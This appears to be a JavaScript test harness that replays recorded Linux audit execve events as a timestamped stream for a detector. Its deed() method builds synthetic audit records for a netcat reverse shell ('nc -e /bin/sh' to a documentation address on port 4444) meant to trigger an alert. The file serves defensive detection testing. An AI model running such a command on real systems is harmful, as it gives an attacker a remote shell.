// Executions of the recording as a living stream: each event with the time of its writing.
import { again, recordedLines } from "./audit-input.mjs";

/** The recorded execve events that succeeded, each the text of its records. */
export function recordedExecutions() {
  const events = new Map();
  for (const line of recordedLines()) {
    const id = /audit\(([^)]+)\)/.exec(line)?.[1];
    if (id === undefined) continue;
    events.set(id, `${events.get(id) ?? ""}${line}\n`);
  }
  return [...events.values()].filter((text) => /^type=SYSCALL .* syscall=59 success=yes/m.test(text));
}

/**
 * Endless executions, each with serial, time and pids of its own. A parent whose own start was not recorded is played by
 * this process: on a living host /proc knows it.
 */
export class Stream {
  #started = new Set();
  #events = recordedExecutions();
  #serial = 1_000_000;
  #index = 0;

  /** @param {number} now epoch ms: the event's stamp */
  next(now) {
    const event = this.#events[this.#index % this.#events.length];
    const round = Math.floor(this.#index++ / this.#events.length) % 40;
    const played = again(event, round, { seconds: 0, serials: 0 }, false);
    return stamped(this.#adopted(played), now, this.#serial++);
  }

  #adopted(text) {
    const [, ppid, pid] = / ppid=(\d+) pid=(\d+)/.exec(text) ?? [];
    this.#started.add(pid);
    return this.#started.has(ppid) ? text : text.replace(` ppid=${ppid}`, ` ppid=${process.pid}`);
  }

  /** An execution that must raise one alert of its own: a reverse shell to an address that names it. */
  deed(number, now) {
    const address = deedAddress(number);
    const pid = 3_000_000 + number;
    const serial = this.#serial++;
    const head = `audit(0.0:0)`;
    return stamped(
      [
        `type=SYSCALL msg=${head}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=1 a2=1 a3=8 items=2 ppid=${pid - 1} pid=${pid} auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=7 comm="nc" exe="/usr/bin/nc.traditional" key="vedette-exec"`,
        `type=EXECVE msg=${head}: argc=5 a0="nc" a1="-e" a2="/bin/sh" a3="${address}" a4="4444"`,
        `type=CWD msg=${head}: cwd="/home/operator"`,
        `type=PATH msg=${head}: item=0 name="/usr/bin/nc" inode=4711 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
        `type=PATH msg=${head}: item=1 name="/lib64/ld-linux-x86-64.so.2" inode=4712 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
        `type=PROCTITLE msg=${head}: proctitle=6E63002D65002F62696E2F7368`,
        "",
      ].join("\n"),
      now,
      serial,
    );
  }
}

/** A documentation address (RFC 5737, RFC 2544) for each number. */
export function deedAddress(number) {
  return `198.${18 + (number >> 16)}.${(number >> 8) & 255}.${number & 255}`;
}

function stamped(text, now, serial) {
  const stamp = `audit(${Math.floor(now / 1000)}.${String(now % 1000).padStart(3, "0")}:${serial})`;
  return text.replace(/audit\([^)]*\)/g, stamp);
}
